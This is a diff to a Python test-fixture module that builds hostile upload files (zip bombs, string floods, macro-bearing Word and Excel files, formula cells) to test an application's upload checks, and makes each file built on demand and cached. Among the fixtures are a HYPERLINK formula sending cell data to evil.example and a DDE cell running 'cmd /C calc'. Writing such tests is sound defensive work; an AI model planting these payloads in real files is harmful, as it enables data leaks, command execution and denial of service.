@@ -8,6 +8,9 @@ relationship), a zip bomb under the ratio and one over it, a flood of shared str
 values or more text than a table may keep. Also formula CSVs, PDFs that run JavaScript
 (plain and hidden in a compressed stream), Word files with macros or a remote template,
 and a Word file named .pdf. The clean file of each kind is in the suite too.
+
+Each file is built when first asked for (``hostile_file(path, name)``) and kept; what the
+upload paths' versions share (the rows of a big sheet, the zip bomb's padding) is made once.
 """
 
 from __future__ import annotations
@@ -16,7 +19,8 @@ import io
 import re
 import zipfile
 import zlib
-from functools import lru_cache
+from collections.abc import Callable
+from functools import cache, lru_cache
 
 from tests.xlsx_files import add_cell_xml, members, rewrite, set_dimension, workbook_bytes, zip_of
 
@@ -108,7 +112,6 @@ def _big_sheet(data: bytes, part: str, megabytes: int) -> bytes:
     """A sheet of ``megabytes`` MiB of small numeric cells (deflates about 15:1, well
     under the ratio), written part by part so the test itself stays small."""
     out = io.BytesIO()
-    target_size = megabytes * 1024 * 1024
     with (
         zipfile.ZipFile(io.BytesIO(data)) as source,
         zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
@@ -120,42 +123,69 @@ def _big_sheet(data: bytes, part: str, megabytes: int) -> bytes:
             head, _, tail = source.read(part).decode().partition("</sheetData>")
             with target.open(part, "w") as handle:
                 handle.write(head.encode())
-                written, row = 0, 10
-                while written < target_size:
-                    chunk = "".join(
-                        f'<row r="{r}"><c r="A{r}"><v>{r * 7919 % 100003}</v></c></row>'
-                        for r in range(row, row + 10_000)
-                    ).encode()
+                for chunk in _big_rows(megabytes):
                     handle.write(chunk)
-                    written += len(chunk)
-                    row += 10_000
                 handle.write(b"</sheetData>" + tail.encode())
     return out.getvalue()
 
 
+@cache
+def _big_rows(megabytes: int) -> tuple[bytes, ...]:
+    """The rows of ``_big_sheet`` from row 10 on, 10,000 to a chunk (the same for every
+    upload path: made once)."""
+    chunks: list[bytes] = []
+    target_size = megabytes * 1024 * 1024
+    written, row = 0, 10
+    while written < target_size:
+        chunk = "".join(
+            f'<row r="{r}"><c r="A{r}"><v>{r * 7919 % 100003}</v></c></row>'
+            for r in range(row, row + 10_000)
+        ).encode()
+        chunks.append(chunk)
+        written += len(chunk)
+        row += 10_000
+    return tuple(chunks)
+
+
 def _over_ratio(data: bytes) -> bytes:
-    out = io.BytesIO()
+    """The workbook with 600 MiB of zeros beside its parts (xl/media/padding.bin)."""
+    out = io.BytesIO(_padding())
     with (
         zipfile.ZipFile(io.BytesIO(data)) as source,
-        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target,
     ):
         for item in source.infolist():
             target.writestr(item.filename, source.read(item.filename))
-        with target.open("xl/media/padding.bin", "w") as handle:
-            block = b"\0" * (1024 * 1024)
-            for _ in range(600):
-                handle.write(block)
     return out.getvalue()
 
 
-def _shared_flood(data: bytes, part: str, count: int = 2_000_000) -> bytes:
+@cache
+def _padding() -> bytes:
+    """A zip of one part, xl/media/padding.bin: 600 MiB of zeros (deflated once, seconds;
+    each workbook's parts are then added to a copy)."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+        target.open("xl/media/padding.bin", "w") as handle,
+    ):
+        block = b"\0" * (1024 * 1024)
+        for _ in range(600):
+            handle.write(block)
+    return out.getvalue()
+
+
+@cache
+def _flood_strings(count: int = 2_000_000) -> bytes:
     strings = "".join(f"<si><t>s{i}</t></si>" for i in range(count))
-    sst = (
+    return (
         '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
         f'spreadsheetml/2006/main">{strings}</sst>'
-    )
+    ).encode()
+
+
+def _shared_flood(data: bytes, part: str) -> bytes:
     parts = members(data)
-    parts["xl/sharedStrings.xml"] = sst.encode()
+    parts["xl/sharedStrings.xml"] = _flood_strings()
     if "sharedStrings" not in parts["xl/_rels/workbook.xml.rels"].decode():
         parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
             b"</Relationships>",
@@ -168,15 +198,19 @@ def _shared_flood(data: bytes, part: str, count: int = 2_000_000) -> bytes:
     return zip_of(parts)
 
 
-def _many_values(data: bytes, part: str, rows: int = 52_600, columns: int = 20) -> bytes:
+def _many_values(data: bytes, part: str) -> bytes:
+    return add_cell_xml(data, _many_rows(), part)
+
+
+@cache
+def _many_rows(rows: int = 52_600, columns: int = 20) -> str:
     letters = [chr(65 + i) for i in range(columns)]
-    body = "".join(
+    return "".join(
         f'<row r="{r}">'
         + "".join(f'<c r="{c}{r}"><v>{r + i}</v></c>' for i, c in enumerate(letters))
         + "</row>"
         for r in range(10, 10 + rows)
     )
-    return add_cell_xml(data, body, part)
 
 
 def _long_text(data: bytes, part: str) -> bytes:
@@ -185,38 +219,52 @@ def _long_text(data: bytes, part: str) -> bytes:
     return add_cell_xml(data, body, part)
 
 
-@lru_cache(maxsize=4)
-def workbooks(path: str) -> dict[str, bytes]:
-    data, part = _base(path)
+def _builders(path: str) -> dict[str, Callable[[bytes, str], bytes]]:
+    """Each hostile workbook of a path, as a function of the path's normal workbook and
+    its sheet's part."""
     sparse = "".join(f'<row r="{r}">{_inline(f"XFD{r}")}</row>' for r in range(500, 1_048_577, 524))
     return {
-        "clean": data,
-        "cell_at_XFD1048576": add_cell_xml(
+        "clean": lambda data, part: data,
+        "cell_at_XFD1048576": lambda data, part: add_cell_xml(
             data, f'<row r="1048576">{_inline("XFD1048576")}</row>', part
         ),
-        "cell_at_Z1000000": add_cell_xml(
+        "cell_at_Z1000000": lambda data, part: add_cell_xml(
             data, f'<row r="1000000">{_inline("Z1000000")}</row>', part
         ),
-        "sparse_max_cells": add_cell_xml(data, sparse, part),
-        "dimension_says_A1": set_dimension(data, "A1", part),
-        "dimension_says_XFD1048576": set_dimension(data, "A1:XFD1048576", part),
-        "formula_hyperlink": add_cell_xml(
+        "sparse_max_cells": lambda data, part: add_cell_xml(data, sparse, part),
+        "dimension_says_A1": lambda data, part: set_dimension(data, "A1", part),
+        "dimension_says_XFD1048576": lambda data, part: set_dimension(data, "A1:XFD1048576", part),
+        "formula_hyperlink": lambda data, part: add_cell_xml(
             data,
             '<row r="5"><c r="A5" t="str"><f>HYPERLINK("http://evil.example/?leak="&amp;B5,'
             '"Open")</f><v>Open</v></c></row>',
             part,
         ),
-        "dde_command": add_cell_xml(
+        "dde_command": lambda data, part: add_cell_xml(
             data, '<row r="5"><c r="A5"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row>', part
         ),
-        "macro_part_renamed": _macro_renamed(data),
-        "macro_by_relationship": _macro_by_relationship(data),
-        "zip_bomb_under_ratio": _big_sheet(data, part, 64),
-        "zip_bomb_over_ratio": _over_ratio(data),
-        "shared_strings_flood": _shared_flood(data, part),
-        "over_a_million_values": _many_values(data, part),
-        "over_32M_characters": _long_text(data, part),
+        "macro_part_renamed": lambda data, part: _macro_renamed(data),
+        "macro_by_relationship": lambda data, part: _macro_by_relationship(data),
+        "zip_bomb_under_ratio": lambda data, part: _big_sheet(data, part, 64),
+        "zip_bomb_over_ratio": lambda data, part: _over_ratio(data),
+        "shared_strings_flood": _shared_flood,
+        "over_a_million_values": _many_values,
+        "over_32M_characters": _long_text,
     }
+
+
+WORKBOOK_NAMES = tuple(_builders("import"))
+
+
+@cache
+def workbook(path: str, name: str) -> bytes:
+    """One hostile workbook built on ``path``'s normal workbook (built once, then kept)."""
+    data, part = _base(path)
+    return _builders(path)[name](data, part)
+
+
+def workbooks(path: str) -> dict[str, bytes]:
+    return {name: workbook(path, name) for name in WORKBOOK_NAMES}
 
 
 # --- other documents --------------------------------------------------------------------
@@ -300,12 +348,21 @@ def documents() -> dict[str, tuple[str, bytes]]:
 
 def hostile_files(path: str) -> dict[str, tuple[str, bytes]]:
     """Every hostile file for one upload path: name -> (file name as uploaded, bytes)."""
-    files: dict[str, tuple[str, bytes]] = {}
-    if path in PATHS:
-        # A document or a reference file is not read by sheet: the import's workbooks serve.
-        base = path if path in ("watchlist", "portal_workbook") else "import"
-        for name, data in workbooks(base).items():
-            files[name] = (f"{name}.xlsx", data)
-    for name, item in documents().items():
-        files[name] = item
-    return files
+    return {name: hostile_file(path, name) for name in hostile_names(path)}
+
+
+def hostile_names(path: str) -> list[str]:
+    """The names of ``hostile_files(path)``, without building any file."""
+    return [*(WORKBOOK_NAMES if path in PATHS else ()), *documents()]
+
+
+def hostile_file(path: str, name: str) -> tuple[str, bytes]:
+    """One of ``hostile_files(path)``, built alone: (file name as uploaded, bytes)."""
+    documents_ = documents()
+    if name in documents_:
+        return documents_[name]
+    if path not in PATHS or name not in WORKBOOK_NAMES:
+        raise KeyError((path, name))
+    # A document or a reference file is not read by sheet: the import's workbooks serve.
+    base = path if path in ("watchlist", "portal_workbook") else "import"
+    return f"{name}.xlsx", workbook(base, name)
